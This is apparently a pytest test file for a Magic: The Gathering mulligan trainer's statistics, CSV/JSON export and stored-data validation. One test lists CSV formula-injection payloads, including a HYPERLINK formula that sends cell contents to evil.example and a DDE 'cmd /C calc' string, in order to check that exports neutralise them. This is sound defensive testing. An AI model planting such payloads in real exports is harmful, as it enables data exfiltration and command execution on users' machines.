"""Practice statistics: summaries (per session, on the play and on the draw), CSV and JSON,
storage round trips (and the older format), bad stored data, and the recent hands read
from a board's decisions."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import random
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opening_hand.rules.actions import Action, ChooseStarting, Keep, Mulligan, UseSerumPowder
from opening_hand.rules.decisions import ChooseStartingPlayer, DeclareMulligan
from opening_hand.rules.game import apply, new_game
from opening_hand.rules.policy import decide
from opening_hand.rules.practice_turns import next_draws
from opening_hand.rules.state import GameState, SeatConfig
from opening_hand.share.share_link import MAX_LINK, Setup, decode_setup, encode_setup, game_from_setup, replay
from opening_hand.trainer.recent import (
    MAX_RECENT,
    MAX_RECENT_LINK,
    HandSeen,
    RecentHand,
    add_recent,
    dump_recent,
    export_json,
    hands_of,
    load_recent,
    recent_hand,
    seat_on_play,
)
from opening_hand.trainer.stats import (
    LAST_TIME,
    MAX_RECORDS,
    PracticeRecord,
    StatsError,
    add,
    deck_key,
    dump_stats,
    load_stats,
    summarize,
    to_csv,
)

A, B = deck_key(["Mountain", "Lightning Bolt"]), deck_key(["Island"])


def record(deck: str = A, session: str = "s1", mulligans: int = 0, kept: int = 7, lands: int = 3,
           times: tuple[int, ...] = (900,), on_play: bool | None = True) -> PracticeRecord:  # fmt: skip
    return PracticeRecord(deck, session, 1_700_000_000_000, mulligans + 1, mulligans, kept, lands, times, on_play)


def test_deck_key_ignores_order_and_case() -> None:
    assert deck_key(["lightning bolt", "MOUNTAIN"]) == A != B


def test_summary_per_deck_and_session() -> None:
    records = [record(), record(mulligans=1, kept=6, lands=2, times=(3000, 1000)), record(session="s2"), record(B)]
    this = summarize(records, A, "s1")
    assert (this.games, this.hands_seen, this.keeps_by_size, this.lands_kept) == (2, 3, {7: 1, 6: 1}, {2: 1, 3: 1})
    assert this.mulligans_per_game == 0.5 and this.median_decide_ms == 1000.0 and this.mean_lands_kept == 2.5
    assert summarize(records, A).games == 3 and summarize(records, "none").median_decide_ms is None
    assert summarize(records, "none").mean_lands_kept is None


def test_summary_on_the_play_and_on_the_draw_and_games_whose_side_is_not_known() -> None:
    records = [
        record(on_play=True, lands=4, times=(500,)),
        record(on_play=False, mulligans=2, kept=5, lands=1, times=(100, 200, 300)),
        record(on_play=False, lands=3, times=(700,)),
        record(on_play=None, mulligans=1, kept=6, times=(9000,)),  # a version-1 game: in "all" only
    ]
    play, draw, every = (summarize(records, A, on_play=side) for side in (True, False, None))
    assert (play.games, play.hands_seen, play.keeps_by_size, play.median_decide_ms) == (1, 1, {7: 1}, 500.0)
    assert (draw.games, draw.hands_seen, draw.keeps_by_size, draw.lands_kept) == (2, 4, {7: 1, 5: 1}, {1: 1, 3: 1})
    assert draw.mulligans_per_game == 1.0 and draw.median_decide_ms == 250.0
    assert every.games == 4 and every.hands_seen == 7 and every.keeps_by_size == {7: 2, 6: 1, 5: 1}
    assert summarize(records, A, "s2", on_play=False).games == 0


def test_csv_export_has_one_row_per_game_and_says_play_or_draw() -> None:
    records = [record(), record(B, times=(1, 2), on_play=False), record(on_play=None)]
    rows = list(csv.reader(io.StringIO(to_csv(records), newline="")))
    assert rows[0][:3] == ["deck", "session", "at"] and rows[0][-1] == "play_draw" and len(rows) == 4
    assert rows[2][-2] == "1 2" and [r[-1] for r in rows[1:]] == ["play", "draw", ""]


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\t=1+1", "\r=1+1", "\uff1d1+1"]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_never_writes_a_cell_a_spreadsheet_runs(formula: str) -> None:
    """Stored statistics are untrusted (every project site of a GitHub user shares one origin):
    a deck or session key that reads as a formula is written as text."""
    raw = dump_stats([record()]).replace(f'"{record().deck}"', json.dumps(formula[:40]), 1)
    records = load_stats(raw).value
    assert records[0].deck == formula[:40]
    rows = list(csv.reader(io.StringIO(to_csv(records), newline="")))
    assert len(rows) == 2, rows  # no line break starts a row of its own
    for row in rows:
        assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) for cell in row), row
    assert rows[1][0].startswith("'")


def test_stored_games_and_recent_hands_are_read_up_to_the_latest_date_a_browser_shows() -> None:
    assert load_recent(bad_recent(at=LAST_TIME)).value[0].at == LAST_TIME
    game = ["abc", "s", LAST_TIME, 1, 0, 7, 3, [], True]
    assert load_stats(json.dumps({"app": "opening-hand-stats", "version": 2, "games": [game]})).value[0].at == LAST_TIME
    later = [*game[:2], LAST_TIME + 1, *game[3:]]
    found = load_stats(json.dumps({"app": "opening-hand-stats", "version": 2, "games": [game, later]}))
    assert [r.at for r in found.value] == [LAST_TIME] and found.rejected == (later,)
    assert "date no calendar has" in str(found.error)


def test_storage_round_trip_and_the_cap() -> None:
    records = [record(), record(B, mulligans=2, kept=5, lands=1, times=(), on_play=False), record(on_play=None)]
    stored = dump_stats(records)
    assert json.loads(stored)["version"] == 2 and load_stats(stored).value == records
    assert len(add([record()] * MAX_RECORDS, record(B))) == MAX_RECORDS


def test_statistics_saved_by_version_1_still_load_with_play_or_draw_unknown() -> None:
    saved = json.dumps({"app": "opening-hand-stats", "version": 1, "games": [
        ["abc", "1700000000000", 1_700_000_000_123, 2, 1, 6, 2, [1500, 800]],
        ["abc", "1700000000000", 1_700_000_000_456, 1, 0, 7, 3, []],
    ]})  # fmt: skip
    records = load_stats(saved).value
    assert records == [
        PracticeRecord("abc", "1700000000000", 1_700_000_000_123, 2, 1, 6, 2, (1500, 800), None),
        PracticeRecord("abc", "1700000000000", 1_700_000_000_456, 1, 0, 7, 3, (), None),
    ]
    assert summarize(records, "abc").games == 2 and summarize(records, "abc", on_play=True).games == 0
    rewritten = json.loads(dump_stats(records))  # written back as version 2, nothing lost
    assert rewritten["version"] == 2 and [row[:8] for row in rewritten["games"]] == json.loads(saved)["games"]


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ("{", "not valid JSON"),
        ('{"app": "x"}', "not Opening Hand statistics"),
        ('{"app": "opening-hand-stats", "version": 3, "games": []}', "unknown format"),
        ('{"app": "opening-hand-stats", "version": true, "games": []}', "unknown format"),
        ('{"app": "opening-hand-stats", "version": 2, "games": {}}', "no list of games"),
    ],
)
def test_statistics_that_cannot_be_read_as_a_whole_are_reported(raw: str, message: str) -> None:
    with pytest.raises(StatsError, match=message):
        load_stats(raw)


GOOD_ROWS = {1: ["a", "b", 5, 1, 0, 7, 3, [900]], 2: ["a", "b", 5, 1, 0, 7, 3, [900], False]}


@pytest.mark.parametrize(
    ("version", "row"),
    [
        (1, [1]),
        (1, ["a", "b", -1, 1, 0, 7, 3, []]),
        (1, ["a", "b", 1, 1, 0, 7, 3, [], True]),
        (2, ["a", "b", 1, 1, 0, 7, 3, []]),
        (2, ["a", "b", 1, 1, 0, 7, 3, [], 1]),
        (2, ["a", "b", 1, 1, 0, 7, 3, "900", True]),
        (2, "a game"),
    ],
)
def test_a_game_that_cannot_be_read_is_left_out_and_the_others_load(version: int, row: object) -> None:
    """Game by game: the readable games load; the other comes back as stored, with the texts
    the page stores: it alone (to set aside) and the readable games (in its place)."""
    good = GOOD_ROWS[version]
    stored = {"app": "opening-hand-stats", "version": version, "games": [good, row, good], "note": "kept"}
    found = load_stats(json.dumps(stored))
    assert len(found.value) == 2 and found.total == 3 and found.rejected == (row,)
    assert "in the saved statistics is not valid" in str(found.error)
    assert json.loads(found.aside) == {**stored, "games": [row]}  # as stored, the rest of the value too
    again = load_stats(found.kept)
    assert again.value == found.value and again.rejected == () and again.aside == again.kept == ""
    with pytest.raises(StatsError, match="not valid"):
        found.whole()


@given(st.text(max_size=200))
def test_any_stored_text_gives_records_or_the_typed_error(raw: str) -> None:
    with contextlib.suppress(StatsError):
        assert isinstance(load_stats(raw).value, list)


# ----------------------------------------------------------------------- recent hands

DECK = "24 Mountain\n36 Lightning Bolt\n"
POWDER_DECK = "24 Mountain\n32 Lightning Bolt\n4 Serum Powder\n"
Plan = list[str]  # seat 1's answers to its Keep/Mulligan questions, in order: "keep", "mulligan", "powder"


class FakeBoard:
    """What ``board.Board`` keeps, without the page: every action in order, and an undo point
    (state before, index of the action) at each decision of the person at the keyboard."""

    def __init__(self, setup: Setup, plan: Plan, play: bool = True) -> None:
        self.setup = setup
        self.actions: list[Action] = []
        self.undo_stack: list[tuple[GameState, int]] = []
        state = game_from_setup(setup)
        while state.pending is not None:
            pending = state.pending
            if pending.player == 1:
                action = self.answer(state, plan, play)
                self.undo_stack.append((state, len(self.actions)))
            elif isinstance(pending, ChooseStartingPlayer):  # the other seat chooses: as the test wants
                action = ChooseStarting(pending.player, 1 if play else pending.player)
            else:
                action = decide(state)
            state = apply(state, action)
            self.actions.append(action)
        assert not plan, f"answers left unused: {plan}"
        self.state = state

    @staticmethod
    def answer(state: GameState, plan: Plan, play: bool) -> Action:
        pending = state.pending
        if isinstance(pending, ChooseStartingPlayer):
            return ChooseStarting(1, 1 if play else 2)
        if isinstance(pending, DeclareMulligan):
            assert plan, f"an unscripted question: {pending!r}"
            step = plan.pop(0)
            if step == "powder":
                return UseSerumPowder(1, pending.serum_powders[0])
            if step == "mulligan":  # under Partial Paris, setting the first two cards aside
                return Mulligan(1, tuple(c.id for c in state.player(1).hand[:2]) if pending.set_aside else ())
            assert step == "keep", step
            return Keep(1)
        return decide(state)  # the bottom step's suggestion, a scry

    def hand_at(self, index: int) -> tuple[str, ...]:
        return tuple(c.name for c in self.undo_stack[index][0].player(1).hand)

    def recent(self, **changes: object) -> RecentHand:
        options: dict[str, object] = {"deck": A, "name": "Burn", "at": 1_700_000_000_000, "setup": self.setup}
        options.update(changes)
        return recent_hand(self.state, self.undo_stack, self.actions, **options)  # type: ignore[arg-type]


def setup(edition: str = "london", deck: str = DECK, seed: int = 5) -> Setup:
    return Setup(deck=deck, format="constructed", players=2, edition=edition, seed=seed, chooser=1, unchecked=True)


def test_hands_seen_london_a_mulligan_the_bottom_card_and_the_keep() -> None:
    board = FakeBoard(setup(), ["mulligan", "keep"])
    hands, keep_at = hands_of(board.undo_stack, board.actions)
    first, second = hands
    assert first == HandSeen(board.hand_at(1), "mulligan")  # undo point 0 is the play/draw choice
    assert len(first.cards) == 7 and second.decision == "keep" and len(second.cards) == 7
    (kind, bottom), = second.moves  # fmt: skip
    assert kind == "bottom" and len(bottom) == 1
    kept = list(second.cards)
    kept.remove(bottom[0])
    assert sorted(kept) == sorted(c.name for c in board.state.player(1).hand)
    assert keep_at is not None and isinstance(board.actions[keep_at], Keep) and board.actions[keep_at].player == 1


def test_hands_seen_on_mtgo_the_bottom_card_goes_with_the_kept_hand() -> None:
    board = FakeBoard(setup("london-mtgo"), ["mulligan", "keep"])
    (first, second), _ = hands_of(board.undo_stack, board.actions)
    assert first.moves == () and first.decision == "mulligan"
    assert second.decision == "keep" and [k for k, _ in second.moves] == ["bottom"]
    assert second.cards == board.hand_at(2)  # the hand the Keep was asked on, bottom card included


def test_hands_seen_with_serum_powder_and_vancouver_scry() -> None:
    board = FakeBoard(setup(deck=POWDER_DECK, seed=first_powder_seed()), ["powder", "keep"])
    hands, _ = hands_of(board.undo_stack, board.actions)
    assert [h.decision for h in hands] == ["serum-powder", "keep"] and "Serum Powder" in hands[0].cards

    board = FakeBoard(setup("vancouver"), ["mulligan", "keep"])
    (_, kept), _ = hands_of(board.undo_stack, board.actions)
    (kind, (seen,)), = kept.moves  # fmt: skip
    assert kind in ("scry-top", "scry-bottom") and len(kept.cards) == 6 and seen not in ("?", "")


def first_powder_seed() -> int:
    """The first seed whose opening hand for seat 1 holds a Serum Powder."""
    for seed in range(200):
        state = apply(game_from_setup(setup(deck=POWDER_DECK, seed=seed)), ChooseStarting(1, 1))
        if any(c.name == "Serum Powder" for c in state.player(1).hand):
            return seed
    raise AssertionError("no seed deals a Serum Powder")


def test_hands_seen_under_partial_paris_names_the_cards_set_aside() -> None:
    board = FakeBoard(setup("partial-paris"), ["mulligan", "keep"])
    (first, _second), _ = hands_of(board.undo_stack, board.actions)
    assert first.decision == "mulligan" and first.moves == (("aside", first.cards[:2]),)


@pytest.mark.parametrize("play", [True, False])
def test_recent_hand_says_play_or_draw_and_what_the_next_draws_bring(play: bool) -> None:
    board = FakeBoard(setup(), ["keep"], play=play)
    entry = board.recent()
    assert entry.on_play is play and entry.deck == A and entry.name == "Burn"
    assert entry.kept == tuple(c.name for c in board.state.player(1).hand) and len(entry.kept) == 7
    expected = tuple((turn, c.name if c else None) for turn, c in next_draws(board.state, 1))
    assert entry.draws == expected and entry.draws[0][0] == 1 and len(entry.draws) == 6
    assert (entry.draws[0][1] is None) is play  # the player on the play skips the first draw (CR 103.8a)
    drawn = [card for _, card in entry.draws if card is not None]
    assert drawn == [c.name for c in board.state.player(1).library[: len(drawn)]] and len(drawn) == 6 - play


def test_on_the_play_is_the_team_taking_the_first_turn() -> None:
    seats = [SeatConfig(f"Seat {i}", ("Forest",) * 24 + ("Llanowar Elves",) * 36) for i in (1, 2, 3, 4)]
    state = new_game(seats, seed=2, format="two-headed-giant")
    assert seat_on_play(state) is None  # not chosen yet
    mate = next(seat for seat in state.teams[state.team_of(1)] if seat != 1)
    other = next(team[0] for team in state.teams if 1 not in team)
    assert seat_on_play(apply(state, ChooseStarting(state.chooser, mate))) is True
    assert seat_on_play(apply(state, ChooseStarting(state.chooser, other))) is False


def test_the_recent_hand_reopens_at_the_decision_on_the_kept_hand() -> None:
    board = FakeBoard(setup(), ["mulligan", "mulligan", "keep"])
    entry = board.recent()
    opened = decode_setup(entry.link)
    assert opened.deck == DECK and opened.seed == 5 and opened.actions == tuple(board.actions[: len(opened.actions)])
    assert board.actions[len(opened.actions)] == Keep(1)  # the link stops just before the Keep
    state = replay(game_from_setup(opened), opened.actions)
    assert isinstance(state.pending, DeclareMulligan) and state.pending.player == 1
    assert state.player(1).mulligans == 2
    assert [c.name for c in state.player(1).hand] == [c.name for c in board.state.player(1).hand]
    assert apply(state, Keep(1)).player(1).hand == board.state.player(1).hand


def test_a_link_longer_than_the_cap_is_not_kept() -> None:
    board = FakeBoard(setup(), ["keep"])
    noise = random.Random(0)
    padding = "".join(f"# {''.join(noise.choices('abcdefghijklmnopqrstuvwxyz0123456789', k=70))}\n" for _ in range(400))
    padded = replace(board.setup, deck=DECK + padding, actions=tuple(board.actions))
    assert MAX_RECENT_LINK < len(encode_setup(padded)) < MAX_LINK  # a link, but too long to keep
    long = board.recent(setup=padded)
    assert long.link == "" and long.kept == board.recent().kept and long.hands == board.recent().hands
    assert 0 < len(board.recent().link) <= MAX_RECENT_LINK
    assert board.recent(setup=None).link == ""


def test_an_entry_always_reads_back_however_many_hands_and_however_long_the_names() -> None:
    name = "Serum Powder of " + "a very long name " * 20  # longer than a decklist allows: new_game takes it
    state = new_game([SeatConfig("Seat 1", (name,) * 60), SeatConfig("Seat 2", ("Island",) * 60)], seed=1)
    state = apply(state, ChooseStarting(state.chooser, 1))
    if state.pending is not None and state.pending.player != 1:
        state = apply(state, decide(state))
    assert isinstance(state.pending, DeclareMulligan) and state.pending.player == 1
    undo = [(state, 0)] * 150  # 150 hands seen (a Serum Powder deck can show as many)
    entry = recent_hand(state, undo, [Mulligan(1)], deck=A, name="x" * 500, at=1, setup=None)
    assert len(entry.hands) == 100 and len(entry.name) == 100 and all(len(c) <= 200 for c in entry.hands[0].cards)
    assert load_recent(dump_recent([entry])).value == [entry]


def recent(at: int = 1, on_play: bool | None = True, link: str = "v1.x") -> RecentHand:
    hands = (
        HandSeen(("Mountain",) * 7, "mulligan"),
        HandSeen(("Lightning Bolt", "Mountain") * 3 + ("Fire // Ice",), "keep", (("bottom", ("Mountain",)),)),
    )
    return RecentHand(A, "Burn “1”", at, on_play, hands, ("Lightning Bolt",) * 6,
                      ((1, None), (2, "Mountain"), (3, "Ré\u00e9")), link)  # fmt: skip


def test_recent_hands_round_trip_newest_first_and_capped() -> None:
    recent_hands: list[RecentHand] = []
    for at in range(MAX_RECENT + 5):
        recent_hands = add_recent(recent_hands, recent(at, on_play=[True, False, None][at % 3]))
    assert len(recent_hands) == MAX_RECENT and [e.at for e in recent_hands[:2]] == [MAX_RECENT + 4, MAX_RECENT + 3]
    assert load_recent(dump_recent(recent_hands)).value == recent_hands
    assert load_recent(None).value == [] and load_recent("").value == []


def bad_recent(**changes: object) -> str:
    entry = json.loads(dump_recent([recent()]))
    entry["hands"][0].update(changes)
    return json.dumps(entry)


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ("[" * 1000, "nested more deeply"),
        ('{"app": "opening-hand-stats", "version": 1, "hands": []}', "not Opening Hand recent hands"),
        ('{"app": "opening-hand-recent-hands", "version": 2, "hands": []}', "unknown format"),
        ('{"app": "opening-hand-recent-hands", "version": 1}', "no list of hands"),
    ],
)
def test_recent_hands_that_cannot_be_read_as_a_whole_are_reported(raw: str, message: str) -> None:
    with pytest.raises(StatsError, match=message):
        load_recent(raw)


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (bad_recent(at=-1), "not valid"),
        (bad_recent(at=True), "not valid"),
        (bad_recent(at=8.7e15), "not valid"),
        (bad_recent(at=8_640_000_000_000_001), "not valid"),  # past the latest time a Date shows
        (bad_recent(on_play="yes"), "not valid"),
        (bad_recent(link="v1." + "a" * MAX_RECENT_LINK), "not valid"),
        (bad_recent(name=["Burn"]), "not valid"),
        (bad_recent(kept=["x" * 201]), "not valid"),
        (bad_recent(kept=[None]), "not valid"),
        (bad_recent(draws=[[True, "Mountain"]]), "not valid"),
        (bad_recent(draws=[[1, 2]]), "not valid"),
        (bad_recent(hands=[{"cards": [], "decision": ["keep"], "moves": []}]), "not valid"),
        (bad_recent(hands=[{"cards": [], "decision": "burn", "moves": []}]), "not valid"),
        (bad_recent(hands=[{"cards": [], "decision": "keep", "moves": [[["bottom"], []]]}]), "not valid"),
        (bad_recent(hands=[{"cards": [], "decision": "keep", "moves": [["exile", ["Mountain"]]]}]), "not valid"),
        (bad_recent(hands=[{"cards": "Mountain", "decision": "keep", "moves": []}]), "not valid"),
    ],
)
def test_a_recent_hand_that_cannot_be_read_is_left_out_and_the_others_load(raw: str, message: str) -> None:
    stored = json.loads(raw)
    good = json.loads(dump_recent([recent()]))["hands"][0]
    bad = stored["hands"][0]
    stored["hands"] = [good, bad, good]
    found = load_recent(json.dumps(stored))
    assert found.value == [recent(), recent()] and found.rejected == (bad,) and found.total == 3
    assert message in str(found.error)
    assert json.loads(found.aside)["hands"] == [bad]
    assert load_recent(found.kept).value == found.value


@given(st.text(max_size=200))
def test_any_stored_text_gives_recent_hands_or_the_typed_error(raw: str) -> None:
    with contextlib.suppress(StatsError):
        assert isinstance(load_recent(raw).value, list)


def test_json_export_holds_the_games_and_the_recent_hands() -> None:
    data = json.loads(export_json([record(on_play=False), record(B, on_play=None)], [recent(at=7, link="")]))
    assert data["app"] == "opening-hand-statistics-export" and data["version"] == 1
    assert [g["play_draw"] for g in data["games"]] == ["draw", ""] and data["games"][1]["deck"] == B
    (hand,) = data["recent_hands"]
    assert hand["at"] == 7 and hand["on_play"] is True and hand["link"] == ""
    assert hand["hands"][1]["moves"] == [["bottom", ["Mountain"]]] and hand["draws"][0] == [1, None]
    assert load_recent(
        json.dumps({"app": "opening-hand-recent-hands", "version": 1, "hands": data["recent_hands"]})
    ).value
